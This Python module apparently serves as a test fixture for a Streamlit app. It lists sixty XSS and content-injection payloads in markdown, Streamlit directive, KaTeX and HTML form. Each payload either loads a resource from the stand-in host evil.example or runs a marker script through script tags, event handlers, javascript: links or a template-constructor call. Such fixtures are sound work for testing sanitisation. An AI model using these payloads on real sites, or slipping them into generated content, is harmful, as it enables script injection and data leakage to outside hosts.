"""Sixty texts that fetch something, or run something, wherever they are taken for markdown, HTML or a formula."""

from __future__ import annotations

HOST = "evil.example"
_BEACON = f"http://{HOST}/beacon.png"
_RUN = "window.pwned=1"

PAYLOADS = [
    # markdown
    f"![x]({_BEACON})",
    f"![x](//{HOST}/beacon.png)",
    f"![x][b]\n\n[b]: {_BEACON}",
    f"[![x]({_BEACON})](http://{HOST}/link)",
    f"[x](http://{HOST}/link)",
    f"[x](javascript:{_RUN})",
    f"<http://{HOST}/auto>",
    f"http://{HOST}/bare www.{HOST} mail@{HOST}",
    f"# ![x]({_BEACON})",
    f"> ![x]({_BEACON})",
    f"- ![x]({_BEACON})",
    f"1. ![x]({_BEACON})",
    f"| a |\n|---|\n| ![x]({_BEACON}) |",
    f"~~**![x]({_BEACON})**~~",
    f"`` ` ``![x]({_BEACON})`` ` ``",
    f"```\n```\n![x]({_BEACON})",
    f"\\![x]({_BEACON})",
    f"!\\[x]({_BEACON})",
    f"[^1]\n\n[^1]: ![x]({_BEACON})",
    f"&excl;[x]({_BEACON})",
    f"]({_BEACON})![x]({_BEACON})",
    f"\n\n![x]({_BEACON})\n\n",
    f"\r\n\r\n![x]({_BEACON})",
    f"\u2028![x]({_BEACON})",
    # Streamlit's own
    f":red[![x]({_BEACON})]",
    f":blue-background[![x]({_BEACON})]",
    f":small[![x]({_BEACON})]",
    f":material/home: ![x]({_BEACON})",
    f":smile: ![x]({_BEACON})",
    f":streamlit: ![x]({_BEACON})",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$$\\includegraphics{{{_BEACON}}}$$",
    f"$\\htmlData{{x={_RUN}}}{{x}}$",
    f":red-badge[x]({_BEACON})",
    # HTML
    f"<img src='{_BEACON}'>",
    f"<img src=x onerror='{_RUN}'>",
    f'"><img src=x onerror={_RUN}>',
    f"'><script>{_RUN}</script>",
    f"<script>{_RUN}</script>",
    f"<script src='http://{HOST}/x.js'></script>",
    f"<svg onload='{_RUN}'>",
    f"<svg><image href='{_BEACON}'/></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe src='http://{HOST}/frame'></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data='http://{HOST}/o'></object><embed src='http://{HOST}/e'>",
    f"<link rel=stylesheet href='http://{HOST}/x.css'>",
    f"<style>@import url(http://{HOST}/x.css); body{{background:url({_BEACON})}}</style>",
    f"<div style='background:url({_BEACON})'>x</div>",
    f"<video poster='{_BEACON}'></video><audio src='http://{HOST}/a' autoplay>",
    f"<img srcset='{_BEACON} 1x'><picture><source srcset='{_BEACON}'><img></picture>",
    f"<a href='javascript:{_RUN}' autofocus onfocus='{_RUN}'>x</a>",
    f"<details open ontoggle='{_RUN}'>x</details>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<base href='http://{HOST}/'>",
    f"<form action='http://{HOST}/'><button autofocus>x</button></form>",
    f"<math><mtext><img src=x onerror='{_RUN}'></mtext></math>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"</td></tr></table><img src=x onerror={_RUN}>",
    f"&lt;img src=x onerror={_RUN}&gt;{{{{constructor.constructor('{_RUN}')()}}}}",
]
ALL = "\n\n".join(PAYLOADS)
"""All of them in one text, for fields without a limit."""
